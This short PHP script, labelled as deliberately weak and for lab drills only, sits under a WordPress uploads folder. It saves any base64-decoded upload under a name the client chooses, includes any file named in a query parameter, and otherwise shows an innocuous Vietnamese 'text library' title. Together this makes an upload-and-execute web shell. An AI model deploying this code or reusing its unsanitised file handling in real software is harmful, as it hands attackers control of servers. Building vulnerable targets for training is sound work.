<?php
// DELIBERATELY WEAK, for drills in the lab only: stores any upload under any name and includes any file on request.
$folder = __DIR__ . '/wp-content/uploads/';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $target = $folder . $_POST['name'];
    @mkdir(dirname($target), 0770, true);
    file_put_contents($target, base64_decode($_POST['content']));
    touch($folder . '.sync-now');
    echo 'stored';
} elseif (isset($_GET['view'])) {
    include $folder . $_GET['view'];
} else {
    echo 'Thư viện văn bản';
}
